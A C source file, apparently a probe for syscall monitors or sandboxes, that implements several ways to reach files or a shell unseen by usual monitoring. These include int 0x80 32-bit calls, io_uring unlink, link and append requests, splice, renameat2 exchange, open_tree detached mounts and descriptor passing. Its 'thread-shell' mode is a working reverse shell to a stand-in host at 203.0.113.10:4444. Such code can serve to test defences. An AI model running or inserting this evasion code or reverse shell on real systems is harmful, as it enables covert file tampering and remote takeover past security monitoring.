/* Ways to a file or to a shell that the usual system calls do not show: the table of 32-bit calls,
 * an exchange of names, a detached tree of mounts, a descriptor that another process opened,
 * requests of io_uring that change names, pipes without a read, a program from a second thread. */
#include "uring.h"
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

static char low_path[256], low_buffer[4096];

/* Addresses below 4 GiB, as the program is linked without position independence. */
static long call32(long number, long first, long second, long third)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(third)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static int by_32_bit_calls(const char *path)
{
    strncpy(low_path, path, sizeof low_path - 1);
    long fd = call32(5 /* open */, (long)low_path, O_RDONLY, 0);
    if (fd < 0)
        return 1;
    long got = call32(3 /* read */, fd, (long)low_buffer, sizeof low_buffer);
    return got <= 0 || call32(4 /* write */, 1, (long)low_buffer, got) != got;
}

static int print(int fd)
{
    char buffer[4096];
    ssize_t got, all = 0;
    while (fd >= 0 && (got = read(fd, buffer, sizeof buffer)) > 0)
        all += write(1, buffer, got);
    return all <= 0;
}

static int in_detached_tree(const char *folder, const char *name)
{
    int tree = (int)syscall(428 /* open_tree */, AT_FDCWD, folder, 1 /* OPEN_TREE_CLONE */);
    if (tree < 0)
        return perror("open_tree"), 1;
    return print(openat(tree, name, O_RDONLY));
}

static int exchange(const char *one, const char *other)
{
    return syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) != 0;
}

static int through_pipe(const char *path)
{
    int ends[2], fd = open(path, O_RDONLY);
    if (fd < 0 || pipe(ends))
        return 1;
    ssize_t got = splice(fd, 0, ends[1], 0, 4096, 0);
    return got <= 0 || splice(ends[0], 0, 1, 0, got, 0) != got;
}

static int receive(int from)
{
    char byte, room[CMSG_SPACE(sizeof(int))];
    struct iovec piece = { &byte, 1 };
    struct msghdr message = { .msg_iov = &piece, .msg_iovlen = 1 };
    message.msg_control = room;
    message.msg_controllen = sizeof room;
    if (recvmsg(from, &message, 0) != 1 || !CMSG_FIRSTHDR(&message))
        return -1;
    return *(int *)CMSG_DATA(CMSG_FIRSTHDR(&message));
}

static int hand_over(int to, int fd)
{
    char byte = 0, room[CMSG_SPACE(sizeof(int))] = { 0 };
    struct iovec piece = { &byte, 1 };
    struct msghdr message = { .msg_iov = &piece, .msg_iovlen = 1 };
    message.msg_control = room;
    message.msg_controllen = sizeof room;
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(sizeof fd);
    *(int *)CMSG_DATA(head) = fd;
    return sendmsg(to, &message, 0) != 1;
}

/* One process opens the folder only, the other opens the file below it. */
static int handed_over(const char *folder, const char *name)
{
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends))
        return 1;
    if (fork() == 0)
        _exit(hand_over(ends[1], open(folder, O_PATH | O_DIRECTORY)));
    return print(openat(receive(ends[0]), name, O_RDONLY));
}

static int ring_names(int operation, const char *from, const char *to)
{
    struct ring ring;
    struct io_uring_sqe request = { .opcode = operation, .fd = AT_FDCWD };
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    request.addr = (unsigned long)from;
    if (to) {
        request.len = (unsigned)AT_FDCWD;
        request.addr2 = (unsigned long)to;
    }
    int result = ring_do(&ring, &request);
    return result ? fprintf(stderr, "%s\n", strerror(-result)) : 0;
}

static int ring_append(const char *path, const char *text)
{
    struct ring ring;
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    struct io_uring_sqe request = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .len = 0600 };
    request.addr = (unsigned long)path;
    request.open_flags = O_CREAT | O_APPEND | O_WRONLY;
    int fd = ring_do(&ring, &request);
    struct io_uring_sqe data = { .opcode = IORING_OP_WRITE, .fd = fd, .off = (__u64)-1 };
    data.addr = (unsigned long)text;
    data.len = strlen(text);
    return fd < 0 || ring_do(&ring, &data) != (int)strlen(text);
}

static void *shell(void *unused)
{
    char *words[] = { "sh", 0 }, *none[] = { "PATH=/usr/bin:/bin", 0 };
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(4444) };
    inet_pton(AF_INET, "203.0.113.10", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (void *)&to, sizeof to))
        _exit(1);
    for (int target = 0; target < 3; target++)
        dup2(fd, target);
    execve("/bin/sh", words, none);
    return unused;
}

static int from_second_thread(void)
{
    pthread_t thread;
    return pthread_create(&thread, 0, shell, 0) || pthread_join(thread, 0) || 1;
}

int main(int count, char **words)
{
    const char *way = count < 2 ? "" : words[1];
    if (!strcmp(way, "thread-shell"))
        return from_second_thread();
    if (count == 3 && !strcmp(way, "int80"))
        return by_32_bit_calls(words[2]);
    if (count == 3 && !strcmp(way, "splice"))
        return through_pipe(words[2]);
    if (count == 3 && !strcmp(way, "uring-unlink"))
        return ring_names(IORING_OP_UNLINKAT, words[2], 0);
    if (count == 4 && !strcmp(way, "uring-link"))
        return ring_names(IORING_OP_LINKAT, words[2], words[3]);
    if (count == 4 && !strcmp(way, "uring-append"))
        return ring_append(words[2], words[3]);
    if (count == 4 && !strcmp(way, "exchange"))
        return exchange(words[2], words[3]);
    if (count == 4 && !strcmp(way, "tree"))
        return in_detached_tree(words[2], words[3]);
    if (count == 4 && !strcmp(way, "handover"))
        return handed_over(words[2], words[3]);
    return 2;
}
